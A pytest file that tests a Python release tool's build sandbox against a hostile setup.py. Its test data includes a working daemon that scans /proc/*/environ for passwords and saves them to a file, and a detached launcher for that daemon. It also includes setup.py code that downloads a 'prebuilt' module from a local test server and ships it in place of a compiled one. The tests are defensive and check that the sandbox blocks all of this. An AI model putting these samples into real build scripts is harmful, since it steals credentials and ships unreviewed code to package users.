"""A hostile setup.py through a real release: it starts a setsid daemon that hunts /proc/*/environ for
credentials for as long as it lives, and downloads a "prebuilt wheel" instead of compiling. The
sandbox (wheelflow.core.sandbox) must leave it nothing: no credential, no surviving process, and no
downloaded file in what is published."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from conftest import INDEX_PASSWORD, make_project, run_cli, running_with

from wheelflow.core import sandbox

# Lives as long as it can, reading every process's start environment it may, and keeps what holds a
# password where an attacker would pick it up later (here: a file the test reads).
DAEMON = """
import glob, os, sys, time
drop = sys.argv[1]
print("hostile daemon started", flush=True)
deadline = time.monotonic() + 900
while time.monotonic() < deadline:
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as f:
                found = [v for v in f.read().split(b"\\0") if b"PASSWORD=" in v]
        except OSError:
            continue
        if found:
            try:
                with open(drop, "ab") as out:
                    out.write(path.encode() + b" " + b" ".join(found) + b"\\n")
            except OSError:
                pass
    time.sleep(0.05)  # the attacker's polling, not the test's
"""

# Fetches a prebuilt module instead of compiling one, as setup.py files that guess a release asset's
# URL do (a template: format it with url=...).
DOWNLOAD_INSTEAD_OF_COMPILE = """
import urllib.request
direct = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
try:
    prebuilt = direct.open({url!r}, timeout=20).read()
    with open("src/tiny_pkg/prebuilt.py", "wb") as f:
        f.write(prebuilt)
    print("hostile setup.py: shipped the downloaded file", flush=True)
except OSError as exc:
    print(f"hostile setup.py: download failed: {{exc}}", flush=True)
from setuptools import setup
setup()
"""
# First starts the daemon, which keeps the build's output pipe open.
SETUP_PY = (
    "import subprocess, sys\nsubprocess.Popen([sys.executable, {daemon!r}, {drop!r}], start_new_session=True)\n"
    + DOWNLOAD_INSTEAD_OF_COMPILE
)


# One cell, built by the Docker builder in the images `wheelflow images` makes.
DOCKER_MATRIX = (
    "\n[tool.wheelflow.matrix]\naxes = { python = ['3.11'] }\n"
    "image = 'wheelflow/builder:py{python}'\nruntime-image = 'wheelflow/runtime:py{python}'\n"
)


class PrebuiltServer:
    """A loopback HTTP server that serves a "prebuilt" file and counts the requests it gets."""

    def __init__(self, host: str = "127.0.0.1", shown: str | None = None) -> None:
        self.requests: list[str] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                server.requests.append(self.path)
                body = b"PREBUILT = 'downloaded, not compiled'\n"
                self.send_response(200)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self._httpd = ThreadingHTTPServer((host, 0), Handler)
        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)
        self._thread.start()
        self.url = f"http://{shown or host}:{self._httpd.server_address[1]}/prebuilt.py"

    def close(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()


@pytest.mark.skipif(sandbox.protection() != sandbox.BWRAP, reason="bwrap cannot make namespaces here")
@pytest.mark.case(
    "secret",
    "a hostile setup.py in a release starts a setsid daemon polling /proc/*/environ for passwords and "
    "downloads a prebuilt file from a server on this machine instead of compiling",
    "the daemon finds no password and does not outlive the build; the download fails and nothing "
    "downloaded is published; the report names the sandbox",
)
def test_a_hostile_setup_py_finds_no_secret_leaves_no_process_and_ships_no_download(
    tmp_path: Path, home: Path, index, index_credentials, prefect_api
) -> None:
    daemon, drop = tmp_path / "hostile-daemon.py", tmp_path / "found.txt"
    daemon.write_text(DAEMON)
    prebuilt = PrebuiltServer()
    try:
        project = make_project(tmp_path / "proj", index_url=index.simple_url)
        (project / "setup.py").write_text(SETUP_PY.format(daemon=str(daemon), drop=str(drop), url=prebuilt.url))
        result = run_cli("release", str(project), "--builder", "local", "--json")
        survivors = running_with(str(daemon))  # right as the release returns: each build's daemon is gone
    finally:
        prebuilt.close()
        for pid in running_with(str(daemon)):  # a failing run must not leave the hunt going on
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
    assert result.returncode == 0, result.stderr[-3000:]
    report = json.loads(result.stdout)
    assert report["sandbox"] == "bwrap (pid+net namespace)"
    assert "sandbox: bwrap (pid+net namespace)" in result.stderr
    assert "hostile daemon started" in result.stderr  # the daemon ran, in every build step
    assert "hostile setup.py: download failed" in result.stderr
    assert "shipped the downloaded file" not in result.stderr
    assert survivors == []
    assert prebuilt.requests == []  # the server on this machine's loopback was never reached
    found = drop.read_bytes() if drop.exists() else b""
    assert INDEX_PASSWORD.encode() not in found and b"PASSWORD=" not in found
    published = sorted((tmp_path / "served").rglob("*.whl"))
    assert [p.name for p in published] == ["tiny_pkg-1.0.0-py3-none-any.whl"]
    with zipfile.ZipFile(published[0]) as wheel:
        assert not [n for n in wheel.namelist() if n.endswith("prebuilt.py")]


def _docker_gateway() -> str | None:
    """This host's address on Docker's default bridge, which a container on it reaches."""
    import fcntl
    import socket
    import struct

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            packed = fcntl.ioctl(probe.fileno(), 0x8915, struct.pack("256s", b"docker0"))  # SIOCGIFADDR
        except OSError:
            return None
    return socket.inet_ntoa(packed[20:24])


@pytest.mark.case(
    "fault",
    "in the Docker builder, a setup.py downloads a prebuilt file from a server this host offers on "
    "Docker's bridge instead of compiling",
    "the download fails (the compile's container has no network) and the published wheel is the one compiled",
)
def test_the_docker_builder_compiles_without_network(
    tmp_path: Path, home: Path, index, index_credentials, prefect_api, docker_images
) -> None:
    gateway = _docker_gateway()
    if gateway is None:
        pytest.skip("no docker0 bridge on this host")
    prebuilt = PrebuiltServer(host="0.0.0.0", shown=gateway)
    try:
        project = make_project(
            tmp_path / "proj",
            index_url=index.simple_url,
            extra=DOCKER_MATRIX,
        )
        (project / "setup.py").write_text(DOWNLOAD_INSTEAD_OF_COMPILE.format(url=prebuilt.url))
        result = run_cli("release", str(project), "--builder", "docker", "--json")
    finally:
        prebuilt.close()
    assert result.returncode == 0, result.stderr[-3000:]
    assert "the compile without network" in result.stderr
    assert "hostile setup.py: download failed" in result.stderr
    assert prebuilt.requests == []
    published = sorted((tmp_path / "served").rglob("*.whl"))
    assert len(published) == 1
    with zipfile.ZipFile(published[0]) as wheel:
        assert not [n for n in wheel.namelist() if n.endswith("prebuilt.py")]


def test_build_network_true_gives_the_compile_its_network(
    tmp_path: Path, home: Path, index, index_credentials, prefect_api
) -> None:
    """The spec's way out for a build that must download while it compiles: the same download works."""
    prebuilt = PrebuiltServer()
    try:
        project = make_project(
            tmp_path / "proj", index_url=index.simple_url, extra="\n[tool.wheelflow.build]\nnetwork = true\n"
        )
        (project / "setup.py").write_text(DOWNLOAD_INSTEAD_OF_COMPILE.format(url=prebuilt.url))
        result = run_cli("release", str(project), "--builder", "local", "--json")
    finally:
        prebuilt.close()
    assert result.returncode == 0, result.stderr[-3000:]
    assert "hostile setup.py: shipped the downloaded file" in result.stderr
    assert prebuilt.requests  # reached
    if sandbox.protection() == sandbox.BWRAP:
        assert json.loads(result.stdout)["sandbox"] == "bwrap (pid namespace)"


# An in-tree backend that asks for one more package for a wheel (PEP 517's get_requires_for_build_wheel),
# as some backends ask for cmake or ninja, and needs it while it builds.
ASKING_BACKEND = """
from setuptools import build_meta as _setuptools
from setuptools.build_meta import *  # noqa: F403


def get_requires_for_build_wheel(config_settings=None):
    return [*_setuptools.get_requires_for_build_wheel(config_settings), "wheel"]


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import wheel  # noqa: F401  (fails here unless what was asked for was installed before the compile)

    return _setuptools.build_wheel(wheel_directory, config_settings, metadata_directory)
"""


@pytest.mark.parametrize("builder", ["local", "docker"])
def test_what_the_backend_asks_for_is_installed_before_the_compile_without_network(
    tmp_path: Path, home: Path, index, index_credentials, prefect_api, builder: str, request: pytest.FixtureRequest
) -> None:
    extra = ""
    if builder == "docker":
        request.getfixturevalue("docker_images")
        extra = DOCKER_MATRIX
    project = make_project(tmp_path / "proj", index_url=index.simple_url, extra=extra)
    pyproject = project / "pyproject.toml"
    pyproject.write_text(
        pyproject.read_text().replace(
            'build-backend = "setuptools.build_meta"', 'build-backend = "backend"\nbackend-path = ["_build"]'
        )
    )
    (project / "_build").mkdir()
    (project / "_build" / "backend.py").write_text(ASKING_BACKEND)
    (project / "MANIFEST.in").write_text("graft _build\n")  # the wheel is built from the sdist too
    result = run_cli("release", str(project), "--builder", builder, "--json")
    assert result.returncode == 0, result.stderr[-3000:]
    assert len(list((tmp_path / "served").rglob("*.whl"))) == 1
